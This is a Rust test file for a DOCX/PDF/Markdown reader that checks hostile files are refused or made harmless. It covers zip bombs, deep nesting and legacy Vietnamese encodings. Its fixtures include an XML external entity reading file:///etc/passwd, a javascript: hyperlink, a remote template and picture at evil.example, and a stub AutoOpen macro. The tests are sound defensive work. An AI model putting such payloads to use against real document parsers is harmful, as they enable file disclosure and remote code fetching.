//! Files that were made to harm, or came to harm.

use std::io::{Cursor, Read as _};

use zip::ZipArchive;

use super::super::{Format, Refused, limits};
use super::read;
use super::tests::{NGHI_QUYET_PDF, QUY_DINH_DOCX};
use crate::kernel::zipped::zipped;

const HEAD: &str = "<?xml version=\"1.0\"?><w:document xmlns:w=\"w\"><w:body>";
const TAIL: &str = "</w:body></w:document>";

fn document(body: &str) -> Vec<u8> {
    zipped(&[(
        "word/document.xml",
        format!("{HEAD}{body}{TAIL}").as_bytes(),
    )])
}

fn paragraph(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

fn refused(format: Format, bytes: &[u8]) -> Refused {
    read(format, bytes).unwrap_err()
}

/// A document with one more part, or one part changed.
pub fn rewritten(bytes: &[u8], name: &str, change: impl Fn(String) -> String) -> Vec<u8> {
    let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut parts = Vec::new();
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).unwrap();
        let entry_name = entry.name().unwrap().to_string();
        let mut content = Vec::new();
        entry.read_to_end(&mut content).unwrap();
        if entry_name == name {
            content = change(String::from_utf8(content).unwrap()).into_bytes();
        }
        parts.push((entry_name, content));
    }
    let parts: Vec<(&str, &[u8])> = parts
        .iter()
        .map(|(name, content)| (name.as_str(), content.as_slice()))
        .collect();
    zipped(&parts)
}

#[test]
fn a_small_archive_that_unpacks_to_much_is_refused() {
    let limit = usize::try_from(limits::DOCX_UNPACKED).unwrap();
    let bomb = zipped(&[("word/document.xml", &vec![b' '; limit + 1])]);
    assert!(bomb.len() < 200_000, "{}", bomb.len());
    assert_eq!(refused(Format::Docx, &bomb), Refused::TooLargeUnpacked);
    // Over several parts, each below the limit.
    let half = vec![b' '; limit / 2 + 1];
    let styles = [b"<w:styles/>".as_slice(), &half].concat();
    let parts = [
        ("word/document.xml", half.as_slice()),
        ("word/styles.xml", &styles),
    ];
    assert_eq!(
        refused(Format::Docx, &zipped(&parts)),
        Refused::TooLargeUnpacked
    );
    // A part that is not text is not unpacked at all.
    let fine = format!("{HEAD}{}{TAIL}", paragraph("Chữ"));
    let parts = [
        ("word/document.xml", fine.as_bytes()),
        ("word/media/image1.png", &vec![0; limit + 1]),
    ];
    assert!(read(Format::Docx, &zipped(&parts)).is_ok());
}

#[test]
fn what_is_too_long_is_refused() {
    let many = document(&"<w:p/>".repeat(limits::PARAGRAPHS + 1));
    assert_eq!(refused(Format::Docx, &many), Refused::TooLong);
    let long = document(&paragraph(&"a".repeat(limits::CHARACTERS * 3 + 1)));
    assert_eq!(refused(Format::Docx, &long), Refused::TooLong);
    let sections: String = (1..=limits::SECTIONS + 1)
        .map(|number| paragraph(&format!("Điều {number}. X")))
        .collect();
    assert_eq!(
        refused(Format::Docx, &document(&sections)),
        Refused::TooManySections
    );
    assert_eq!(
        refused(Format::Markdown, &vec![b'a'; limits::MARKDOWN_BYTES + 1]),
        Refused::TooLarge
    );
    assert_eq!(
        refused(Format::Docx, &vec![0; limits::DOCX_BYTES + 1]),
        Refused::TooLarge
    );
    assert_eq!(
        refused(Format::Pdf, &vec![0; limits::PDF_BYTES + 1]),
        Refused::TooLarge
    );
}

#[test]
fn deep_nesting_is_refused_and_shallow_is_read() {
    let nested = |depth: usize| {
        let open = "<w:tbl><w:tr><w:tc>".repeat(depth);
        let close = "</w:tc></w:tr></w:tbl>".repeat(depth);
        document(&format!("{open}{}{close}", paragraph("Sâu")))
    };
    assert_eq!(refused(Format::Docx, &nested(100_000)), Refused::Corrupt);
    let read = read(Format::Docx, &nested(50)).unwrap();
    assert!(read.drafts[0].html.contains("Sâu"));
}

#[test]
fn entities_are_not_expanded() {
    let bomb = format!(
        "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}",
        HEAD.replace("<?xml version=\"1.0\"?>", "")
    );
    let body = paragraph("Chữ &b;&x;&amp;&#273;");
    let bytes = zipped(&[(
        "word/document.xml",
        format!("{bomb}{body}{TAIL}").as_bytes(),
    )]);
    assert_eq!(
        read(Format::Docx, &bytes).unwrap().drafts[0].html,
        "<p>Chữ &amp;đ</p>"
    );
}

#[test]
fn files_of_another_kind_are_told_apart() {
    let compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1].as_slice();
    let name: Vec<u8> = "EncryptedPackage"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(refused(Format::Docx, compound), Refused::OldWordFormat);
    assert_eq!(
        refused(Format::Docx, &[compound, &name].concat()),
        Refused::Encrypted
    );
    assert_eq!(refused(Format::Docx, b""), Refused::Corrupt);
    assert_eq!(
        refused(Format::Docx, &zipped(&[("a.txt", b"a")])),
        Refused::Corrupt
    );
    assert_eq!(refused(Format::Docx, NGHI_QUYET_PDF), Refused::Corrupt);
    assert_eq!(refused(Format::Pdf, QUY_DINH_DOCX), Refused::Corrupt);
    assert_eq!(refused(Format::Pdf, b"%PDF-1.7\n"), Refused::Corrupt);
    assert_eq!(
        refused(Format::Markdown, &[0xFF, 0xFE, 0x00]),
        Refused::Corrupt
    );
    assert_eq!(refused(Format::Markdown, b" \n\n"), Refused::Empty);
    assert_eq!(refused(Format::Docx, &document("<w:p/>")), Refused::Empty);
    let picture = "<w:p><w:r><w:drawing><pic:pic/></w:drawing></w:r></w:p>";
    assert_eq!(refused(Format::Docx, &document(picture)), Refused::NoText);
    assert_eq!(refused(Format::Markdown, b"![](a.png)\n"), Refused::NoText);
}

#[test]
fn old_encodings_are_refused() {
    let old = paragraph("Uû ban nh©n d©n tØnh, §¶ng bé huyÖn");
    assert_eq!(
        refused(Format::Docx, &document(&old)).code(),
        "legacy_tcvn3"
    );
    let vni = "UÛy ban nhaân daân tænh, Ñaûng boä huyeän";
    assert_eq!(
        refused(Format::Markdown, vni.as_bytes()).code(),
        "legacy_vni"
    );
}

#[test]
fn macros_and_outside_addresses_never_arrive() {
    let relationships = "<Relationships><Relationship Id=\"r1\" Type=\"x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" \
         TargetMode=\"External\"/><Relationship Id=\"r2\" Type=\"x/hyperlink\" Target=\"javascript:alert(1)\"/></Relationships>";
    let body = format!(
        "{HEAD}<w:p><w:hyperlink r:id=\"r2\"><w:r><w:t>bấm</w:t></w:r></w:hyperlink><w:r><w:instrText>INCLUDEPICTURE \
         https://evil.example/p.png</w:instrText></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>ẩn</w:t></w:r></w:p>{TAIL}"
    );
    let bytes = zipped(&[
        ("word/document.xml", body.as_bytes()),
        ("word/_rels/document.xml.rels", relationships.as_bytes()),
        ("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 AutoOpen"),
    ]);
    assert_eq!(
        read(Format::Docx, &bytes).unwrap().drafts[0].html,
        "<p>bấm</p>"
    );
}

#[test]
fn a_stamp_in_a_page_header_is_found() {
    let header = format!("<w:hdr xmlns:w=\"w\">{}</w:hdr>", paragraph("M Ậ T"));
    let body = format!("{HEAD}{}{TAIL}", paragraph("Báo cáo"));
    let bytes = zipped(&[
        ("word/document.xml", body.as_bytes()),
        ("word/header1.xml", header.as_bytes()),
    ]);
    assert_eq!(read(Format::Docx, &bytes).unwrap().stamps.len(), 1);
}
